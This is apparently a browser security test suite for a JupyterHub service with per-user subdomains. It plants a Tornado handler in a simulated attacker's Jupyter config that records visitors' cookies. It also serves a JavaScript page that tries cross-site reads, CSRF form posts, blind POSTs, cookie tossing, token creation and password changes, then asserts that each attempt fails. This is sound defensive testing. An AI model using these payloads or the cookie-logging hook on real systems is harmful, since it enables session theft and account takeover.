"""Per-user subdomains: pages work, and a page that one user's server sends acts as nobody else.

Mallory's server runs what mallory likes: here it answers anybody with a page of hers. The victim,
signed in, opens it.
"""

import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time
from contextlib import closing, contextmanager
from dataclasses import dataclass
from pathlib import Path

import httpx
import psutil
import pytest

from goodman_live.hub.accounts.database import make_engine, session_factory
from goodman_live.hub.accounts.proposals import create_proposal, member_soar_ids
from goodman_live.hub.accounts.users import authenticate, create_user, find_user
from goodman_live.hub.demo.processes import MARK, marked
from goodman_live.server_extension.catalogue.migrate import migrate

pytestmark = pytest.mark.browser

GOOD = "a-long-w0rd-for-tests!"
DOMAIN = "goodman.localhost"
SOAR_ID = "SOAR2026B-020"

TAKEN_OVER = '''
from pathlib import Path
import tornado.web

class Sent(tornado.web.RequestHandler):
    """Answers anybody, and keeps what their browser sent along."""

    def get(self):
        with Path("cookies.txt").open("a") as sink:
            sink.write(self.request.headers.get("Cookie", "") + "\\n")
        self.set_header("Content-Type", "text/html")
        self.finish(Path("evil.html").read_text())

usual = tornado.web.Application.find_handler

def find_handler(self, request, **words):
    if request.path.endswith("/evil.html"):
        return self.get_handler_delegate(request, Sent)
    return usual(self, request, **words)

tornado.web.Application.find_handler = find_handler
'''
"""In mallory's own Jupyter configuration, which her server reads as it starts."""

EVIL = """<!doctype html><title>Look at my spectrum</title><iframe name="frame"></iframe><script>
const hub = "%(hub)s", service = hub + "/services/goodman/api/", victim = "%(victim)s";
const told = {};
async function attempt(name, act) {
  try { told[name] = await act(); } catch (error) { told[name] = "refused: " + error.name; }
}
const read = (url, more) => async () => {
  const answer = await fetch(url, { credentials: "include", ...more });
  return "read: " + answer.status + " " + (await answer.text()).slice(0, 80);
};
const send = (url, fields) => async () => {
  const form = document.createElement("form");
  form.method = "POST"; form.action = url; form.target = "frame";
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    input.name = name; input.value = value; form.append(input);
  }
  document.body.append(form);
  const loaded = new Promise((done) => {
    document.querySelector("iframe").addEventListener("load", done, { once: true });
    setTimeout(done, 3000);
  });
  form.submit();
  await loaded;
  try { return "read: " + frames.frame.document.body.innerText.slice(0, 80); }
  catch (error) { return "refused: " + error.name; }
};
const blind = (url, body, type) => async () => {
  await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body,
    headers: { "Content-Type": type } });
  return "sent";
};
async function attack() {
  await attempt("me", read(service + "users/me/"));
  await attempt("files", read(service + "files/"));
  await attempt("hub user", read(hub + "/hub/api/user"));
  await attempt("their folder", read(victim + "api/contents"));
  await attempt("their kernels", read(victim + "api/kernels"));
  await attempt("token", read(hub + "/hub/api/users/victim/tokens", { method: "POST" }));
  await attempt("with a proof of ours", read(service + "users/me/", { method: "PATCH",
    headers: { "X-XSRFToken": "evil", "Content-Type": "application/json" },
    body: '{"partner": "Evil"}' }));
  // A subdomain may plant cookies for the whole domain.
  for (const path of ["/", "/hub/", "/services/goodman/", "/services/goodman/api/"])
    for (const name of ["_xsrf", "jupyterhub-session-id", "service-goodman"])
      document.cookie = name + "=evil; domain=%(domain)s; path=" + path;
  const collaborator = JSON.stringify({ email: "mallory@example.org", action: "add" });
  await attempt("blind 1", blind(service + "proposals/collaborators/%(proposal)s/?_xsrf=evil",
    collaborator, "text/plain"));
  await attempt("blind 2", blind(hub + "/hub/api/users/victim/tokens?_xsrf=evil", "{}",
    "text/plain"));
  await attempt("blind 3", blind(victim + "api/kernels?_xsrf=evil", "{}", "text/plain"));
  await attempt("form 1", send(service + "proposals/collaborators/%(proposal)s/",
    { email: "mallory@example.org", action: "add", _xsrf: "evil" }));
  await attempt("form 2", send(hub + "/hub/change-password",
    { old: "x", new: "my-own-choice-1", again: "my-own-choice-1", _xsrf: "evil" }));
  await attempt("form 3", send(victim + "api/contents", { _xsrf: "evil" }));
  await attempt("image", () => new Promise((done, fail) => {
    const image = new Image();
    image.onload = () => done("read"); image.onerror = () => fail(new Error());
    image.src = service + "files/visualize/?id=1"; }));
  await attempt("events", () => new Promise((done, fail) => {
    const source = new EventSource(service + "events/?since=0", { withCredentials: true });
    source.onopen = () => done("read"); source.onerror = () => fail(new Error()); }));
  await attempt("socket", () => new Promise((done, fail) => {
    const socket = new WebSocket(victim.replace("http", "ws") + "api/events/subscribe");
    socket.onopen = () => done("read"); socket.onerror = () => fail(new Error()); }));
  await attempt("frame", async () => {
    const frame = document.querySelector("iframe");
    const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 3000); });
    frame.src = service + "docs/";
    await loaded;
    return "read " + frame.contentDocument.title; });
  await attempt("window", async () => {
    const other = window.open(service + "docs/");
    for (let look = 0; look < 100 && !other.document.title; look++)
      await new Promise((done) => setTimeout(done, 200));  // about:blank can be read
    return "read " + other.document.title; });
  return told;
}
</script>"""


@dataclass
class Site:
    """A Hub whose users' servers have subdomains."""

    root: Path
    port: int
    proposal: int

    @property
    def hub(self):
        return f"http://{DOMAIN}:{self.port}"

    def server(self, name):
        return f"http://{name}.{DOMAIN}:{self.port}/user/{name}/"

    @property
    def log(self):
        return (self.root / "hub.log").read_text(errors="replace")

    def sessions(self):
        return session_factory(make_engine(f"sqlite:///{self.root}/goodman.sqlite"))

    def ask(self, path, host=DOMAIN):
        headers = {"Host": f"{host}:{self.port}"}
        url = f"http://127.0.0.1:{self.port}{path}"
        return httpx.get(url, headers=headers, trust_env=False, timeout=10)


def free_ports(count):
    probes = [socket.socket() for _ in range(count)]
    for probe in probes:
        probe.bind(("127.0.0.1", 0))
    numbers = [probe.getsockname()[1] for probe in probes]
    for probe in probes:
        probe.close()
    return numbers


@pytest.fixture(scope="module")
def site(project):
    root = Path(tempfile.mkdtemp(prefix="goodman-names-"))
    url = f"sqlite:///{root}/goodman.sqlite"
    migrate(url)
    engine = make_engine(url)
    with session_factory(engine)() as session:
        for name in ("mallory", "victim"):
            create_user(session, username=name, email=f"{name}@example.org", password=GOOD)
        pi = find_user(session, "victim")
        proposal = create_proposal(session, soar_id=SOAR_ID, pi=pi, title="A quiet title").id
    engine.dispose()
    keys = ("HUB", "HUB_INTERNAL", "PROXY_API", "SERVICE")
    ports = dict(zip(keys, free_ports(4), strict=True))
    made = Site(root, ports["HUB"], proposal)
    home = root / "home" / "mallory"
    (home / ".jupyter").mkdir(parents=True)
    (home / ".jupyter" / "jupyter_config.py").write_text(TAKEN_OVER)
    words = {"hub": made.hub, "victim": made.server("victim"), "domain": DOMAIN}
    (home / "evil.html").write_text(EVIL % {**words, "proposal": proposal})
    env = {key: os.environ[key] for key in ("PATH", "HOME")} | {
        "GOODMAN_DATA": str(root),
        "GOODMAN_ONE_OS_USER": "1",
        "GOODMAN_SUBDOMAIN_HOST": made.hub,
        "OMP_NUM_THREADS": "1",
        "OPENBLAS_NUM_THREADS": "1",
        MARK: str(root),
        **{f"GOODMAN_{key}_PORT": str(port) for key, port in ports.items()},
    }
    command = [sys.executable, "-m", "jupyterhub", "-f", str(project / "jupyterhub_config.py")]
    command += [f"--JupyterHub.db_url=sqlite:///{root}/hub.sqlite"]
    command += [f"--JupyterHub.cookie_secret_file={root}/cookie_secret"]
    command += [f"--ConfigurableHTTPProxy.pid_file={root}/proxy.pid"]
    with (root / "hub.log").open("ab") as sink:
        hub = subprocess.Popen(command, env=env, cwd=root, stdout=sink, stderr=sink)
    try:
        for path in ("/hub/health", "/services/goodman/api/"):
            wait_for(made, hub, path)
        yield made
    finally:
        hub.send_signal(signal.SIGTERM)
        try:
            hub.wait(60)
        except subprocess.TimeoutExpired:
            hub.kill()
            hub.wait()
        left = marked(root)
        for process in left:
            process.kill()
        psutil.wait_procs(left, timeout=30)
        shutil.rmtree(root)


def wait_for(site, hub, path):
    deadline = time.monotonic() + 180
    while time.monotonic() < deadline:
        assert hub.poll() is None, site.log[-4000:]
        try:
            if site.ask(path).status_code == 200:
                return
        except httpx.TransportError:
            pass  # not listening yet
        time.sleep(0.3)
    pytest.fail(f"{path} does not answer\n{site.log[-4000:]}")


@contextmanager
def signed_in(browser, site, name, notebook="home"):
    """Open one of somebody's pages in a browser of their own."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(120_000)
    where = f"{site.server(name)}voila/render/pages/{notebook}.ipynb"
    try:
        page.goto(where)
        page.get_by_label("User name or e-mail").fill(name)
        page.get_by_label("Password").fill(GOOD)
        page.keyboard.press("Enter")
        page.wait_for_url(f"{where}*", timeout=300_000, wait_until="commit")
        yield page
    finally:
        context.close()


@pytest.fixture(scope="module")
def victim(browser, site):
    with signed_in(browser, site, "victim") as page:
        page.get_by_text("A quiet title").first.wait_for(timeout=300_000)
        yield page


@pytest.fixture(scope="module")
def told(browser, site, victim):
    """Let the victim open mallory's page; return what its attacks say."""
    with signed_in(browser, site, "mallory"):
        # Signed in at the service too, so that there is something to steal.
        victim.goto(f"{site.hub}/services/goodman/api/docs/")
        own = """fetch('../users/me/', {headers: {
            'X-XSRFToken': document.cookie.match(/_xsrf=([^;]+)/)[1]}}).then(a => a.json())"""
        assert victim.evaluate(own)["username"] == "victim", "the same can be read from its own"
        victim.goto(f"{site.server('mallory')}evil.html")
        assert victim.title() == "Look at my spectrum"
        return victim.evaluate("attack()")


def test_pages_work_and_lead_to_the_service_and_the_hub(site, victim):
    docs = victim.get_by_role("link", name="API Docs").get_attribute("href")
    assert docs == f"{site.hub}/services/goodman/api/docs/"
    leave = victim.get_by_role("link", name="Sign out").get_attribute("href")
    assert leave == f"{site.hub}/hub/logout"
    page = victim.context.new_page()
    page.goto(docs)
    page.get_by_text("api_files_list").first.wait_for(state="attached")
    assert page.url == docs
    page.close()


def test_nothing_of_the_victims_can_be_read(told):
    assert {name: said for name, said in told.items() if said.startswith("read")} == {}
    assert len(told) == 18


def test_nothing_was_changed_in_the_victims_name(site, told):
    assert told
    with site.sessions()() as session:
        assert find_user(session, "victim").partner != "Evil"
        assert member_soar_ids(session, find_user(session, "mallory")) == []
        assert authenticate(session, "victim", GOOD, "127.0.0.1").user is not None
    with closing(sqlite3.connect(site.root / "hub.sqlite")) as hub:
        notes = [note for (note,) in hub.execute("SELECT note FROM api_tokens")]
    assert not [note for note in notes if note and "api" in note.lower()], notes


def test_the_victims_cookies_stay_on_their_own_hosts(site, told):
    assert told
    sent = (site.root / "home" / "mallory" / "cookies.txt").read_text()
    for name in ("jupyterhub-hub-login", "service-goodman=", "jupyterhub-user-victim"):
        assert name not in sent
